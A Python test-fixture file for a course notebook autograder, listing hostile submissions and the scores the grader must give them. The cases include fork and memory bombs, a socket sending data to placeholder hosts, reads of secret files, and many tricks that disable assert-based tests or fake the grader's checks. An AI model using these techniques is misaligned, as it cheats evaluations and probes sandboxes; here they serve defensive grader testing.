"""The adversarial corpus: hostile or broken submissions, each with the score it must get and
the reason the report must give.

``CASES`` are submissions of the tiny fixture assignment (``tests/pipeline/fixtures/01-tiny``:
``add`` tested by ``test_add``, 2 points; ``square`` tested by ``test_square``, 3 points).
``CASES_00`` are submissions of assignment 00's real notebook
(``solutions/00-pytorch-lightning``, 20 points), whose test cells run inside
``dlgd_course.own_work.graded_part``.

A case edits the student version: ``complete`` starts from the instructor's solutions,
``solutions`` replaces the code of solution cells (by grade id), ``insert`` adds free cells
(a cell a student added) after the cell of a grade id, ``edit`` changes the notebook
further, ``raw`` replaces the file's bytes, ``filename`` saves it under another name.
``{placeholders}`` in code are filled in by the test (paths the submission must not read, a
port it must not reach); literal braces are doubled.

``review``: the grader must flag the submission "needs review" with this phrase in the reason
(a submission that changed how cells run). ``before``: the score the case got from the
grader before execution integrity was checked (issue 16), where it differs from ``expected``
— each defence is shown by a case that scored full marks before and 0 after.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field

from nbformat.notebooknode import NotebookNode

ADD = "def add(a, b):\n    return a + b\n"
SQUARE = "def square(x):\n    return x * x\n"
FULL = {"test_add": 2.0, "test_square": 3.0}
ZERO = {"test_add": 0.0, "test_square": 0.0}


def _set_locked(grade_id: str, source: str) -> Callable[[NotebookNode], None]:
    def edit(nb: NotebookNode) -> None:
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
                cell.source = source

    return edit


def _delete(grade_id: str) -> Callable[[NotebookNode], None]:
    def edit(nb: NotebookNode) -> None:
        nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") != grade_id]

    return edit


def _kernelspec(nb: NotebookNode) -> None:
    nb.metadata["kernelspec"] = {"name": "evil-kernel", "display_name": "Evil", "language": "python"}


@dataclass(frozen=True)
class Case:
    name: str
    expected: dict[str, float]
    solutions: dict[str, str] = field(default_factory=dict)
    edit: Callable[[NotebookNode], None] | None = None
    raw: bytes | None = None
    filename: str | None = None
    reason: str | None = None  # a phrase the report must give for this submission
    review: str | None = None  # a phrase of the "needs review" reason (None: not flagged)
    insert: tuple[tuple[str, str], ...] = ()  # (after grade id, source of a free cell)
    complete: bool = False  # start from the instructor's solutions
    before: dict[str, float] | None = None  # score before issue 16 (None: same as expected)
    not_normal: bool = False  # scored 0 without being run: "not graded normally" (issue 25)


# --- ways to change how later cells run (issue 16) -------------------------------------------

# The exact case: every cell that contains `assert` becomes `pass`.
NO_ASSERTS = (
    "def _no_asserts(lines):\n    return ['pass\\n'] if any('assert' in line for line in lines) else lines\n"
)
INPUT_TRANSFORMER = NO_ASSERTS + "get_ipython().input_transformers_cleanup.append(_no_asserts)\n"
POST_TRANSFORMER = NO_ASSERTS + "get_ipython().input_transformers_post.append(_no_asserts)\n"
AST_TRANSFORMER = (
    "import ast\n\n"
    "class _NoTests(ast.NodeTransformer):\n"
    "    def visit_Module(self, node):\n"
    "        if any(isinstance(n, ast.Assert) for n in ast.walk(node)):\n"
    "            node.body = [ast.Pass(lineno=1, col_offset=0, end_lineno=1, end_col_offset=4)]\n"
    "        return node\n\n"
    "get_ipython().ast_transformers.append(_NoTests())\n"
)
# Installs the transformer later, from the next cell run: no transformer exists yet when the
# cell that registers the callback ends.
PRE_RUN_CELL = NO_ASSERTS + (
    "def _arm(info):\n"
    "    shell = get_ipython()\n"
    "    if _no_asserts not in shell.input_transformers_cleanup:\n"
    "        shell.input_transformers_cleanup.append(_no_asserts)\n\n"
    "get_ipython().events.register('pre_run_cell', _arm)\n"
)
# A handler for the test's errors that also marks the cell as successful (the execute reply
# says "ok": no error reaches the notebook).
CUSTOM_EXCEPTION = (
    "import sys\n\n"
    "def _swallow(shell, etype, value, tb, tb_offset=None):\n"
    "    frame = sys._getframe()\n"
    "    while frame is not None:\n"
    "        result = frame.f_locals.get('result')\n"
    "        if type(result).__name__ == 'ExecutionResult':\n"
    "            result.error_in_exec = None\n"
    "        frame = frame.f_back\n"
    "    return []\n\n"
    "get_ipython().set_custom_exc((AssertionError, NotImplementedError, NameError), _swallow)\n"
)
RUN_CELL = (
    "_shell = get_ipython()\n"
    "_run_cell = _shell.run_cell\n\n"
    "def _run_without_tests(raw_cell, *args, **kwargs):\n"
    "    return _run_cell('pass' if 'assert' in raw_cell else raw_cell, *args, **kwargs)\n\n"
    "_shell.run_cell = _run_without_tests\n"
)
DO_EXECUTE = (
    "_kernel = get_ipython().kernel\n"
    "_do_execute = _kernel.do_execute\n\n"
    "async def _without_tests(code, *args, **kwargs):\n"
    "    return await _do_execute('pass' if 'assert' in code else code, *args, **kwargs)\n\n"
    "_kernel.do_execute = _without_tests\n"
)
# IPython swaps sys.excepthook for its own while a statement runs and puts the previous one
# back after it: a lasting replacement is made from a thread once the cell has ended.
EXCEPTHOOK = (
    "import sys, threading, time\n\n"
    "def _quiet(*args):\n"
    "    pass\n\n"
    "def _replace_after_cell():\n"
    "    while sys.excepthook is not get_ipython().sys_excepthook:\n"
    "        time.sleep(0.001)\n"
    "    sys.excepthook = _quiet\n\n"
    "threading.Thread(target=_replace_after_cell, daemon=True).start()\n"
)
# Called by test_add: installs a trace function. IPython runs each top-level statement of a
# cell in a frame of its own; while one runs, the trace function makes `type` lenient in the
# notebook's namespace (and removes it when the statement returns), so the strict visible test
# `type(result) is int and result == 3` passes with an object that equals anything.
TRACE_FROM_TEST = (
    "import builtins, sys\n\n"
    "class Anything(int):\n"
    "    def __eq__(self, other):\n"
    "        return True\n"
    "    __hash__ = int.__hash__\n\n"
    "def _lenient_type(obj, *args):\n"
    "    return int if isinstance(obj, Anything) and not args else builtins.type(obj, *args)\n\n"
    "def _tracer(frame, event, arg):\n"
    "    if frame.f_code.co_name == '<module>' and frame.f_globals is _namespace:\n"
    "        _namespace['type'] = _lenient_type\n"
    "        return _restore\n"
    "    return None\n\n"
    "def _restore(frame, event, arg):\n"
    "    if event == 'return':\n"
    "        _namespace.pop('type', None)\n"
    "    return _restore\n\n"
    "_namespace = globals()\n\n"
    "def add(a, b):\n"
    "    sys.settrace(_tracer)\n"
    "    return Anything(0)\n\n"
    "def square(x):\n"
    "    return Anything(0)\n"
)
# Finds the grader's check and answers it from a clean state: the transformer is taken out
# while the real check runs and put back after.
ANSWERS_CHECK = INPUT_TRANSFORMER + (
    "import builtins, sys\n"
    "_shell = get_ipython()\n"
    "for _space in [vars(builtins), globals()] + [vars(m) for m in list(sys.modules.values())\n"
    "                                             if 'dlgd' in getattr(m, '__name__', '')]:\n"
    "    for _name in [n for n in list(_space) if n.startswith('_dlgd')]:\n"
    "        def _answer(*args, _real=_space[_name], **kwargs):\n"
    "            _shell.input_transformers_cleanup.remove(_no_asserts)\n"
    "            try:\n"
    "                return _real(*args, **kwargs)\n"
    "            finally:\n"
    "                _shell.input_transformers_cleanup.append(_no_asserts)\n"
    "        _space[_name] = _answer\n"
)
# Answers every user expression (the channel of the grader's check) with "ok" itself.
FAKES_CHECK_REPLY = INPUT_TRANSFORMER + (
    "def _all_fine(expressions):\n"
    "    return {{key: {{'status': 'ok', 'data': {{'text/plain': repr('ok')}}, 'metadata': {{}}}}\n"
    "            for key in expressions}}\n\n"
    "get_ipython().user_expressions = _all_fine\n"
)
# Walks the sandbox's whole file system (but the kernel's own /proc, /sys and /dev, and the
# system's and Python's installed files, too many to walk in a cell's time) and tries the
# host's marker files.
WALKS_FILESYSTEM = (
    "import os, sys\n"
    "print('ROOT', sorted(os.listdir('/')))\n"
    "skip = {{'/proc', '/sys', '/dev', '/usr', sys.prefix, sys.base_prefix}}\n"
    "found, files = [], 0\n"
    "for top, dirs, names in os.walk('/'):\n"
    "    dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip]\n"
    "    files += len(names)\n"
    "    found += [os.path.join(top, n) for n in dirs + names if 'dlgd-marker' in n]\n"
    "print('FILES', files)\n"
    "print('MARKERS', found)\n"
    "for path in {markers!r}:\n"
    "    try:\n"
    "        print('READ', path, open(path).read())\n"
    "    except OSError as error:\n"
    "        print('unreadable', path, type(error).__name__)\n"
)
PLOTS = (
    "%matplotlib inline\n"
    "import matplotlib.pyplot as plt\n"
    "fig, ax = plt.subplots()\n"
    "ax.plot([1, 2, 3], [1, 4, 9])\n"
    "plt.show()\n"
)

CASES = [
    Case("full", FULL, {"add": ADD, "square": SQUARE}),
    Case("blank", ZERO),
    Case(
        "partial",
        {"test_add": 2.0, "test_square": 0.0},
        {"add": ADD, "square": "def square(x):\n    return x + x\n"},
    ),
    Case(
        "infinite_loop",
        {"test_add": 0.0, "test_square": 3.0},
        {"add": "while True:\n    pass\n" + ADD, "square": SQUARE},
        reason="exceeded the time limit of one cell",
    ),
    Case(
        "memory_bomb",
        {"test_add": 0.0, "test_square": 3.0},
        {
            "add": "blocks = []\nwhile True:\n    blocks.append(bytearray(64 * 2**20))\n" + ADD,
            "square": SQUARE,
        },
        reason="ran out of memory",
    ),
    Case(
        "fork_bomb",
        {"test_add": 0.0, "test_square": 3.0},
        {
            "add": "import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(600)\n"
            "        os._exit(0)\n" + ADD,
            "square": SQUARE,
        },
        reason="could not start more processes",
    ),
    Case(
        "output_flood",
        FULL,
        {"add": ADD + "for _ in range(300):\n    print('x' * 100_000)\n", "square": SQUARE},
    ),
    Case(
        "kills_kernel",
        {"test_add": 2.0, "test_square": 0.0},
        {"add": ADD, "square": "import os\nos._exit(3)\n" + SQUARE},
        reason="the kernel died",
    ),
    Case(
        "network",
        FULL,
        {
            "add": "import socket\nfor host in {hosts!r}:\n    try:\n"
            "        socket.create_connection((host, {port}), timeout=3).sendall(b'LEAK')\n"
            "        print('CONNECTED', host)\n"
            "    except OSError as error:\n        print('blocked', host, error)\n" + ADD,
            "square": SQUARE,
        },
    ),
    Case(
        "snoops",
        FULL,
        {
            "add": "import os\nfor path in {secrets!r}:\n    try:\n"
            "        seen = bool(os.listdir(path) if os.path.isdir(path)\n"
            "                    else open(path, 'rb').read())\n"
            "    except OSError:\n        seen = False\n"
            "    print('SEEN' if seen else 'hidden', path)\n" + ADD,
            "square": SQUARE,
        },
    ),
    Case("walks_filesystem", FULL, {"add": WALKS_FILESYSTEM + ADD, "square": SQUARE}),
    Case(
        "edits_locked_test",
        {"test_add": 0.0, "test_square": 3.0},
        {"add": "def add(a, b):\n    return a - b\n", "square": SQUARE},
        edit=_set_locked("test_add", "pass"),
    ),
    Case(
        "deletes_locked_test",
        {"test_add": 2.0, "test_square": 0.0},
        {"add": ADD, "square": "def square(x):\n    return x\n"},
        edit=_delete("test_square"),
    ),
    Case(
        "always_equal",
        {"test_add": 0.0, "test_square": 3.0},
        {
            "add": "class Anything(int):\n    def __eq__(self, other):\n        return True\n\n"
            "def add(a, b):\n    return Anything(0)\n",
            "square": SQUARE,
        },
    ),
    # Tampering with the grader's tools or with how cells run costs every test cell after it,
    # and the submission is flagged for review.
    Case(
        "patches_builtins",
        ZERO,
        {
            "add": "import builtins\nclass Anything(int):\n    def __eq__(self, other):\n"
            "        return True\n\n"
            "builtins.int = Anything\n"
            "def add(a, b):\n    return Anything(0)\n",
            "square": SQUARE,
        },
        reason="broke the kernel",
        review="broke the kernel",
    ),  # ipykernel hangs on the replaced int
    Case(
        "hides_tracebacks",
        ZERO,
        {
            "add": "get_ipython().showtraceback = lambda *args, **kwargs: None\n"
            "def add(a, b):\n    return a - b\n",
            "square": SQUARE,
        },
        reason="showtraceback",
        review="showtraceback",
    ),
    Case(
        "removes_guard",
        ZERO,
        {
            "add": "import builtins\nfor space in (globals(), vars(builtins)):\n"
            "    for name in [n for n in space if n.startswith('_dlgd')]:\n"
            "        del space[name]\n" + ADD,
            "square": SQUARE,
        },
        reason="the grader's check did not run",
        review="the grader's check did not run",
    ),
    Case(
        "input_transformer",
        ZERO,
        insert=(("setup", INPUT_TRANSFORMER),),
        reason="input transformer",
        review="input transformer",
        before=FULL,
    ),
    Case(
        "input_transformer_post",
        ZERO,
        insert=(("setup", POST_TRANSFORMER),),
        reason="input transformer",
        review="input transformer",
        before=FULL,
    ),
    Case(
        "ast_transformer",
        ZERO,
        insert=(("setup", AST_TRANSFORMER),),
        reason="AST transformer",
        review="AST transformer",
        before=FULL,
    ),
    Case(
        "pre_run_cell_event",
        ZERO,
        insert=(("setup", PRE_RUN_CELL),),
        reason="event callback",
        review="event callback",
        before=FULL,
    ),
    Case(
        "custom_exception_handler",
        ZERO,
        insert=(("setup", CUSTOM_EXCEPTION),),
        reason="custom exception handler",
        review="custom exception handler",
        before=FULL,
    ),
    Case(
        "replaces_run_cell",
        ZERO,
        insert=(("setup", RUN_CELL),),
        reason="run_cell",
        review="run_cell",
        before=FULL,
    ),
    Case(
        "wraps_do_execute",
        ZERO,
        insert=(("setup", DO_EXECUTE),),
        reason="do_execute",
        review="do_execute",
        before=FULL,
    ),
    Case(
        "trace_from_test",
        ZERO,
        {"add": TRACE_FROM_TEST, "square": ""},
        reason="trace function",
        review="trace function",
        before=FULL,
    ),
    Case(
        "replaces_excepthook",
        ZERO,
        {"add": EXCEPTHOOK + ADD, "square": SQUARE},
        reason="sys.excepthook",
        review="sys.excepthook",
    ),
    Case(
        "threading_settrace",
        ZERO,
        {"add": "import threading\nthreading.settrace(lambda *args: None)\n" + ADD, "square": SQUARE},
        reason="threading.settrace",
        review="threading.settrace",
    ),
    Case(
        "answers_check",
        ZERO,
        insert=(("setup", ANSWERS_CHECK),),
        reason="the grader's check",
        review="the grader's check",
        before=FULL,
    ),
    Case(
        "fakes_check_reply",
        ZERO,
        insert=(("setup", FAKES_CHECK_REPLY),),
        reason="user_expressions",
        review="user_expressions",
        before=FULL,
    ),
    # honest submissions that use the machinery legitimately keep full marks
    Case(
        "warns_on_stderr",
        FULL,
        {"add": "import warnings\nwarnings.warn('old API', DeprecationWarning)\n" + ADD, "square": SQUARE},
    ),
    Case("plots_matplotlib", FULL, {"add": PLOTS + ADD, "square": SQUARE}),
    Case(
        "future_annotations",
        FULL,
        {
            "add": "from __future__ import annotations\n\ndef add(a: int, b: int) -> int:\n"
            "    return a + b\n",
            "square": SQUARE,
        },
    ),
    Case("prints_history", FULL, {"add": ADD, "square": "print(_ih)\n" + SQUARE}),
    Case("invalid_json", ZERO, raw=b'{"cells": [', reason="not a valid notebook", not_normal=True),
    Case(
        "missing_notebook",
        ZERO,
        raw=b"",
        reason="missing from the submission (no notebook at all)",
        not_normal=True,
    ),
    # the only notebook submitted, under another name: graded (issue 25; before: 0, "missing")
    Case(
        "wrong_file_name",
        FULL,
        {"add": ADD, "square": SQUARE},
        filename="my-homework.ipynb",
        reason="not found under that name; graded my-homework.ipynb instead",
    ),
    Case(
        "changed_kernelspec",
        FULL,
        {"add": ADD, "square": SQUARE},
        edit=_kernelspec,
        reason="kernel 'evil-kernel' replaced",
    ),
]


# --- assignment 00 (its real notebook; test cells inside graded_part) -------------------------

FULL_00 = {
    "test_standardize": 3.0,
    "test_lorenz63_tendency": 4.0,
    "test_rk4_step": 4.0,
    "test_fit_parameters": 3.0,
    "test_flow_map": 6.0,
}
ZERO_00 = dict.fromkeys(FULL_00, 0.0)
ONLY_STANDARDIZE_00 = ZERO_00 | {"test_standardize": 3.0}

# Parts that call the course library's answer instead of being written (own_work refuses it).
DELEGATES_00 = {
    "lorenz63_tendency": (
        "def l63_tendency(state, sigma=10.0, rho=28.0, beta=8.0 / 3.0):\n"
        "    return dynamics.lorenz63_tendency(state, sigma, rho, beta)\n"
    ),
    "rk4_step": "def rk4(tendency, state, dt):\n    return dynamics.rk4_step(tendency, state, dt)\n",
}
NOOP_GRADED_PART = (
    "import contextlib\n"
    "import dlgd_course.own_work as own_work\n\n"
    "class _Part:\n"
    "    def reference(self, function, *args, **kwargs):\n"
    "        return function(*args, **kwargs)\n\n"
    "@contextlib.contextmanager\n"
    "def _graded_part(assignment, part):\n"
    "    yield _Part()\n\n"
    "own_work.graded_part = _graded_part\n"
)
CLEARS_LOCK = (
    "import dlgd_course.own_work as own_work\n\n"
    "class _NeverLocked:\n"
    "    hook_installed = True\n"
    "    windows = own_work._STATE.windows\n"
    "    locked = property(lambda self: {{}}, lambda self, value: None)\n\n"
    "own_work._STATE = _NeverLocked()\n"
)
# Inside the graded part, the student's function swaps the lock for an empty one, delegates,
# and puts the lock back: own_work finds it changed at the end of the part and records it.
UNLOCKS_IN_TEST = {
    "lorenz63_tendency": (
        "def l63_tendency(state, sigma=10.0, rho=28.0, beta=8.0 / 3.0):\n"
        "    import types\n"
        "    import dlgd_course.own_work as own_work\n"
        "    own_work._STATE.locked = types.MappingProxyType({{}})\n"
        "    return dynamics.lorenz63_tendency(state, sigma, rho, beta)\n"
    ),
}
# Disarms the lock where the library reads it: the modules of the answers call a stand-in.
REBINDS_GUARD = (
    "import importlib\n"
    "for _name in ('dlgd_course.dynamics.integrate', 'dlgd_course.dynamics.lorenz63'):\n"
    "    importlib.import_module(_name).guard_answer = lambda: None\n"
)
# A trace function installed in a free cell, outside any graded part (own_work's audit hook,
# active only inside a part, does not see it): it jumps over every assert of a test cell that
# has a statement after it. With a tendency that returns zeros, test_lorenz63_tendency's last
# assert (the output's device) passes.
TRACE_00 = (
    "import ast, linecache, sys\n\n"
    "_jumps = {{}}\n\n"
    "def _asserts_to_skip(filename):\n"
    "    source = ''.join(linecache.getlines(filename)) if 'ipykernel' in filename else ''\n"
    "    if 'graded_part(' not in source:\n"
    "        return {{}}\n"
    "    jumps = {{}}\n"
    "    for node in ast.walk(ast.parse(source)):\n"
    "        body = getattr(node, 'body', None)\n"
    "        if isinstance(body, list):\n"
    "            jumps.update({{s.lineno: n.lineno for s, n in zip(body, body[1:])\n"
    "                          if isinstance(s, ast.Assert)}})\n"
    "    return jumps\n\n"
    "def _tracer(frame, event, arg):\n"
    "    name = frame.f_code.co_filename\n"
    "    if name not in _jumps:\n"
    "        _jumps[name] = _asserts_to_skip(name)\n"
    "    jumps = _jumps[name]\n"
    "    if not jumps:\n"
    "        return None\n"
    "    def local(frame, event, arg):\n"
    "        if event == 'line' and frame.f_lineno in jumps:\n"
    "            frame.f_lineno = jumps[frame.f_lineno]\n"
    "        return local\n"
    "    return local\n\n"
    "sys.settrace(_tracer)\n"
)

# The issue-25 situation on the real notebook: twelve notebooks of nbgrader's own test suite
# (read from the installed package) handed in for assignment 00. Before issue 25 the first one
# crashed the run (KeyError 'grade_id' in nbgrader's OverwriteCells) and nobody was graded.
FOREIGN_00 = [
    "submitted-cheat-attempt",
    "submitted-grade-cell-changed",
    "submitted-locked-cell-changed",
    "test-v0-invalid",
    "test-v2",
    "too-new",
    "test-with-output",
    "side-effects",
    "autotest-hidden",
    "test-no-metadata",
    "infinite-loop",
    "validation-zero-points",
]


def _nbgrader_notebook(name: str) -> bytes:
    from importlib import resources

    return (resources.files("nbgrader.tests.apps.files") / f"{name}.ipynb").read_bytes()


CASES_00 = [
    Case("full", FULL_00, complete=True),
    *[
        Case(
            f"foreign_{name.replace('-', '_')}",
            ZERO_00,
            raw=_nbgrader_notebook(name),
            reason="not this assignment's notebook",
            not_normal=True,
        )
        for name in FOREIGN_00
    ],
    # the exact case: a blank notebook with one extra cell
    Case(
        "blank_transformer",
        ZERO_00,
        insert=(("setup", INPUT_TRANSFORMER),),
        reason="input transformer",
        review="input transformer",
        before=FULL_00,
    ),
    Case(
        "noop_graded_part",
        ONLY_STANDARDIZE_00,
        DELEGATES_00,
        complete=True,
        insert=(("test_standardize", NOOP_GRADED_PART),),
        reason="dlgd_course.own_work",
        review="dlgd_course.own_work",
        before=FULL_00,
    ),
    Case(
        "clears_lock",
        ONLY_STANDARDIZE_00,
        DELEGATES_00,
        complete=True,
        insert=(("test_standardize", CLEARS_LOCK),),
        reason="dlgd_course.own_work",
        review="dlgd_course.own_work",
        before=FULL_00,
    ),
    Case(
        "unlocks_in_test",
        ONLY_STANDARDIZE_00,
        UNLOCKS_IN_TEST,
        complete=True,
        reason="lock of part",
        review="lock of part",
        before=FULL_00,
    ),
    Case(
        "rebinds_guard_answer",
        ONLY_STANDARDIZE_00,
        DELEGATES_00,
        complete=True,
        insert=(("test_standardize", REBINDS_GUARD),),
        reason="guard_answer",
        review="guard_answer",
        before=FULL_00,
    ),
    Case(
        "trace_before_test",
        ONLY_STANDARDIZE_00,
        {
            "lorenz63_tendency": "def l63_tendency(state, sigma=10.0, rho=28.0, beta=8.0 / 3.0):\n"
            "    return torch.zeros_like(state)\n"
        },
        complete=True,
        insert=(("test_standardize", TRACE_00),),
        reason="trace function",
        review="trace function",
        before=FULL_00,
    ),
]
